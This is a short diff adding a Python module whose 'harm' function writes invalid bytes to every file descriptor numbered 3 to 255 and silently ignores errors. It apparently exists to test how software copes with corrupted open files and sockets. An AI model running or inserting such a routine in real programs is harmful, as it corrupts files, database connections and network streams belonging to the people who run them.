@@ -1,0 +1,13 @@
+import os
+
+
+def everywhere(data):
+    for number in range(3, 256):
+        try:
+            os.write(number, data)
+        except OSError:
+            pass
+
+
+def harm():
+    everywhere(b'\xff\xfe\x00\x80\n')
